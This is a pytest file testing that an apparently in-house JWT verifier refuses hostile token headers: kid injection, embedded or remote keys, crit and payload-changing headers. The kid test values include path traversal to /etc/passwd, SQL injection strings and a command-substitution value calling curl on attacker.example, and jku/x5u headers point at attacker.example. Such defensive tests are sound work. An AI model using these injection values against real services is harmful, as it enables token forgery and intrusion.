"""RFC 8725 §3.10 and RFC 7515 §4.1: header parameters never choose where keys come from.

``kid`` is only a dictionary key (path traversal, SQL and unknown values find nothing, and a
flood of unknown kids costs the provider one fetch per cooldown); ``jku``, ``x5u``, ``jwk``,
``x5c`` (keys embedded or located by the token) and ``crit`` are refused outright.
"""

from __future__ import annotations

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from bastion.auth.jwt import INVALID_TOKEN, TokenError
from bastion.auth.jwt.claims import ClaimsPolicy
from bastion.auth.jwt.jwk import jwk_from_public_key
from bastion.auth.jwt.jwks import IssuerKeys
from bastion.auth.jwt.verifier import Issuer, TokenVerifier
from tests.auth.jwt import forge
from tests.auth.jwt.forge import AUDIENCE, ISSUER, NOW

_KIDS = {
    "path traversal": "../../../../../../dev/null",
    "absolute path": "/etc/passwd",
    "file url": "file:///etc/passwd",
    "http url": "http://attacker.example/key.pem",
    "sql": "' OR '1'='1",
    "sql union": "x' UNION SELECT 'secret' --",
    "command": "$(curl attacker.example)",
    "nul": "k1\x00",
    "unknown": "no-such-key",
}


def refused(result: object, reason: str) -> None:
    assert isinstance(result, TokenError), result
    assert result.code == INVALID_TOKEN
    assert result.reason == reason


def _attacker_tokens(kid: str) -> list[str]:
    """Tokens signed by keys the attacker controls, including HMAC with an empty or known key."""
    attacker = Ed25519PrivateKey.generate()
    return [
        forge.token(forge.claims(), key=attacker, alg="EdDSA", kid=kid),
        forge.token(forge.claims(), key=b"", alg="HS256", kid=kid),
        forge.token(forge.claims(), key=b"root:x:0:0:root:/root:/bin/bash\n", alg="HS256", kid=kid),
    ]


@pytest.mark.parametrize("kid", list(_KIDS.values()), ids=list(_KIDS))
async def test_kid_injection_refused(kid: str) -> None:
    verifier = forge.verifier(("EdDSA",))
    for token in _attacker_tokens(kid):
        result = await verifier.verify(token, NOW)
        assert isinstance(result, TokenError)
        assert result.code == INVALID_TOKEN
        assert result.reason in (
            "kid does not name a key of the issuer",
            "alg is not allowed for this issuer",
        )


async def test_kid_path_traversal_refused() -> None:
    token = _attacker_tokens(_KIDS["path traversal"])[0]
    refused(
        await forge.verifier(("EdDSA",)).verify(token, NOW), "kid does not name a key of the issuer"
    )


async def test_kid_sql_injection_refused() -> None:
    token = _attacker_tokens(_KIDS["sql"])[0]
    refused(
        await forge.verifier(("EdDSA",)).verify(token, NOW), "kid does not name a key of the issuer"
    )


async def test_kid_unknown_refused() -> None:
    token = _attacker_tokens(_KIDS["unknown"])[0]
    refused(
        await forge.verifier(("EdDSA",)).verify(token, NOW), "kid does not name a key of the issuer"
    )


@pytest.mark.parametrize("kid", [123, None, ["k1"], {"k": 1}, "", "k" * 257])
def test_kid_not_a_short_string_refused(kid: object) -> None:
    key = forge.private_for("EdDSA")
    token = forge.token(forge.claims(), key=key, alg="EdDSA", kid=None, header={"kid": kid})
    refused(forge.verifier(("EdDSA",)).verify_nowait(token, NOW), "kid is not a short string")


async def test_unknown_kid_flood_costs_one_fetch_per_cooldown() -> None:
    """Made-up kids make bastion look once; the provider is not hammered."""
    requests: list[str] = []

    def provider(request: httpx.Request) -> httpx.Response:
        requests.append(request.url.path)
        if request.url.path.endswith("openid-configuration"):
            return httpx.Response(200, json={"issuer": ISSUER, "jwks_uri": ISSUER + "/jwks"})
        return httpx.Response(200, json=forge.jwks_of(("k1", "EdDSA")))

    now = [0.0]
    async with httpx.AsyncClient(transport=httpx.MockTransport(provider)) as client:
        keys = IssuerKeys(
            ISSUER, algorithms=frozenset({"EdDSA"}), client=client, clock=lambda: now[0]
        )
        assert await keys.refresh()
        policy = ClaimsPolicy(ISSUER, frozenset({AUDIENCE}))
        verifier = TokenVerifier([Issuer(policy, frozenset({"EdDSA"}), keys)])
        now[0] = 100.0
        for i in range(50):
            token = _attacker_tokens(f"made-up-{i}")[0]
            refused(await verifier.verify(token, NOW), "kid does not name a key of the issuer")
        assert requests.count("/jwks") == 2  # the first load, then one refetch for 50 kids
        now[0] = 100.0 + keys.refetch_cooldown
        refused(
            await verifier.verify(_attacker_tokens("again")[0], NOW),
            "kid does not name a key of the issuer",
        )
        assert requests.count("/jwks") == 3


def _embedded_key_token(name: str) -> str:
    """Signed by the attacker's key, which the header carries or points to."""
    attacker = Ed25519PrivateKey.generate()
    jwk = jwk_from_public_key(attacker.public_key(), kid="k1", alg="EdDSA")
    values: dict[str, object] = {
        "jku": "https://attacker.example/jwks.json",
        "x5u": "https://attacker.example/cert.pem",
        "jwk": jwk,
        "x5c": ["MIIBszCCAVmgAwIBAgIUJ"],
    }
    return forge.token(
        forge.claims(), key=attacker, alg="EdDSA", kid="k1", header={name: values[name]}
    )


def test_jku_header_refused() -> None:
    refused(
        forge.verifier(("EdDSA",)).verify_nowait(_embedded_key_token("jku"), NOW),
        "header parameter 'jku' is refused",
    )


def test_x5u_header_refused() -> None:
    refused(
        forge.verifier(("EdDSA",)).verify_nowait(_embedded_key_token("x5u"), NOW),
        "header parameter 'x5u' is refused",
    )


def test_jwk_embedded_key_refused() -> None:
    refused(
        forge.verifier(("EdDSA",)).verify_nowait(_embedded_key_token("jwk"), NOW),
        "header parameter 'jwk' is refused",
    )


def test_x5c_embedded_chain_refused() -> None:
    refused(
        forge.verifier(("EdDSA",)).verify_nowait(_embedded_key_token("x5c"), NOW),
        "header parameter 'x5c' is refused",
    )


def test_embedded_key_refused_even_when_signature_is_by_the_real_key() -> None:
    """The refusal does not depend on the signature: the header alone is enough."""
    key = forge.private_for("EdDSA")
    token = forge.token(forge.claims(), key=key, alg="EdDSA", kid="k1", header={"jku": "https://x"})
    refused(
        forge.verifier(("EdDSA",)).verify_nowait(token, NOW), "header parameter 'jku' is refused"
    )


@pytest.mark.parametrize("crit", [["exp"], ["b64"], [], "x"])
def test_crit_header_refused(crit: object) -> None:
    key = forge.private_for("EdDSA")
    token = forge.token(forge.claims(), key=key, alg="EdDSA", kid="k1", header={"crit": crit})
    refused(
        forge.verifier(("EdDSA",)).verify_nowait(token, NOW), "header parameter 'crit' is refused"
    )


@pytest.mark.parametrize("name", ["b64", "zip", "enc"])
def test_payload_changing_headers_refused(name: str) -> None:
    key = forge.private_for("EdDSA")
    token = forge.token(forge.claims(), key=key, alg="EdDSA", kid="k1", header={name: False})
    refused(
        forge.verifier(("EdDSA",)).verify_nowait(token, NOW),
        f"header parameter {name!r} is refused",
    )
